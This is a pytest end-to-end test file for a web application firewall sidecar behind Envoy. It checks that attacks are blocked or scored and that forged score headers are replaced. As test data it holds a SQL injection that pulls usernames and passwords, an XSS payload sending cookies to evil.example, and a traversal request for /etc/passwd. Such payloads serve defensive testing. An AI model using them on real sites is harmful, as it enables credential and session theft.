"""The attack score end to end: a real Envoy, the sidecar with the committed model, the echo upstream."""
from __future__ import annotations

import json

import pytest
from tests.support.e2e_support import (
    request,
    started_stack,
)

CHROME = "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/141.0 Safari/537.36"
POLICY = """
version: 1
defaults:
  layers:
    rules:
      rules:
        - {id: no-git, match: {path: {prefix: /.git}}, action: deny}
    attack: {budget_ms: 50}
routes:
  - name: watch
    match: {path_prefix: /watch/}
    layers: {attack: {mode: observe}}
"""


@pytest.fixture(scope="module")
def stack(tmp_path_factory):
    with started_stack("attack stack", POLICY, tmp_path_factory.mktemp("attack"),
                       sidecar_args=["--drain-seconds", "1"]) as s:
        yield s


def send(stack, method, path, body=None, content_type=None, extra=()):
    headers = [("user-agent", CHROME), *extra]
    if content_type:
        headers.append(("content-type", content_type))
    return request(stack.listen_port, method, path, headers=headers, body=body)


def test_sqli_in_the_query_is_denied_without_revealing_the_score(stack):
    response = send(stack, "GET", "/products?id=1%27%20UNION%20SELECT%20username,password%20FROM%20users--")
    assert response.status == 403
    assert set(response.json()) == {"error", "request_id"}
    assert "score" not in response.everything() and "attack" not in response.everything()


def test_xss_in_a_json_body_is_denied(stack):
    body = json.dumps({"profile": {"bio": "<svg/onload=fetch('//evil.example/'+document.cookie)>"}}).encode()
    assert send(stack, "POST", "/api/profile", body, "application/json").status == 403


def test_clean_request_reaches_the_upstream_with_scores_and_no_forged_copies(stack):
    response = send(stack, "GET", "/search?q=waterproof+hiking+boots&size=42",
                    extra=[("x-waf-attack-score", "99"), ("x-waf-sqli-score", "99")])
    assert response.status == 200
    seen = {name: value for name, value in response.json()["headers"] if name.startswith("x-waf-")}
    assert int(seen["x-waf-attack-score"]) > 50
    assert {"x-waf-sqli-score", "x-waf-xss-score", "x-waf-rce-score", "x-waf-lfi-score"} <= seen.keys()
    sent_twice = [n for n, _ in response.json()["headers"] if n == "x-waf-attack-score"]
    assert len(sent_twice) == 1  # the client's copy was replaced, not appended to


def test_observe_route_lets_the_attack_through_scored(stack):
    response = send(stack, "GET", "/watch/item?file=../../../../etc/passwd")
    assert response.status == 200
    seen = dict((n, v) for n, v in response.json()["headers"] if n.startswith("x-waf-"))
    assert int(seen["x-waf-attack-score"]) <= 20 and int(seen["x-waf-lfi-score"]) <= 20
    assert "would be denied" in stack.sidecar.log_text()
